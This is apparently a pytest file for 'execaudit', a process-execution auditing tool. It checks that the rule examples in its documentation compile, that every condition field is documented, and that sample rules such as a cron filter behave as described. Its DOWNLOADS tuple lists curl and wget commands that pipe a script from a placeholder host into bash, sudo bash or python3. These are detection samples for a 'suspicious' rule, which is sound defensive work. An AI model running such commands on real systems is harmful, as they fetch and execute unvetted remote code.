# SPDX-License-Identifier: Apache-2.0
"""What docs/rules.md and the samples of rules show is right, and every condition is explained."""

import re
import textwrap
from pathlib import Path

import pytest

from execaudit.config.configuration import read_rules
from execaudit.rules.field_values import FIELDS
from execaudit.rules.rule_set import RuleSet, compile_rules
from tests.rule_tables import LOOKUPS, decide, record

ROOT = Path(__file__).parents[2]
CONDITIONS_GUIDE = (ROOT / "docs/conditions.md").read_text()
GUIDE = (ROOT / "docs/rules.md").read_text()
BLOCKS = [
    textwrap.dedent(block)
    for block in re.findall(
        r"^ *```toml\n(.*?)^ *```", GUIDE + CONDITIONS_GUIDE, re.MULTILINE | re.DOTALL
    )
]
DOWNLOADS = (
    "curl -fsSL https://x.example/i.sh | bash",
    "wget -qO- https://x.example/i.sh | sudo bash",
    "curl https://x.example/i.sh | sudo -E /bin/bash -s",
    "curl https://x.example/i.py | tee log | python3 -",
)
SAMPLES = sorted((ROOT / "packaging/config/rules.d").iterdir())


def compile_text(text: str) -> RuleSet:
    tables, problems = read_rules(text)
    assert problems == []
    rules, problems = compile_rules(tables, LOOKUPS)
    assert problems == []
    assert rules is not None
    return rules


def test_guide_has_ten_worked_examples() -> None:
    examples = GUIDE.partition("## Worked examples")[2]

    assert re.findall(r"^(\d+)\. ", examples, re.MULTILINE) == [str(n) for n in range(1, 11)]
    assert len(BLOCKS) == 13


@pytest.mark.parametrize("block", BLOCKS, ids=lambda block: re.findall('name = "(.*)"', block)[-1])
def test_example_of_the_guide_is_right(block: str) -> None:
    compile_text(block)


@pytest.mark.parametrize("path", SAMPLES, ids=lambda path: path.name)
def test_shipped_sample_is_right(path: Path) -> None:
    compile_text(path.read_text())


def test_guide_explains_every_condition_and_no_other() -> None:
    tables = CONDITIONS_GUIDE.partition("## Text")[2].partition("## all, any, not")[0]
    named = {
        name
        for row in re.findall(r"^\| (`[^|]+`) \|", tables, re.MULTILINE)
        for name in re.findall(r"`([a-z_.]+)`", row)
    }

    assert named == FIELDS.keys()


def test_download_piped_into_a_shell_is_found() -> None:
    (block,) = [block for block in BLOCKS if "download piped" in block]
    rules = compile_text(block)
    for runs in DOWNLOADS:
        assert decide(rules, record(argv=["sh", "-c", runs])).labels == ("suspicious",)
    assert decide(rules, record(argv=["curl", "-o", "x|y"])).labels == ()


def test_cron_example_keeps_what_gains_privilege() -> None:
    (block,) = [block for block in BLOCKS if "cron jobs" in block]
    rules = compile_text(block)
    rules.programs.remember_running(5, 5000 * 1 // 10_000_000, "/usr/sbin/cron")
    job = record(10, above=(5,)) | {"parent_id": "boot-5-1388-1"}

    assert decide(rules, job).action == "drop"
    assert decide(rules, record(11, above=(10,))).action == "drop"
    assert decide(rules, record(12, above=(10,), privileged=True)).action == "keep"
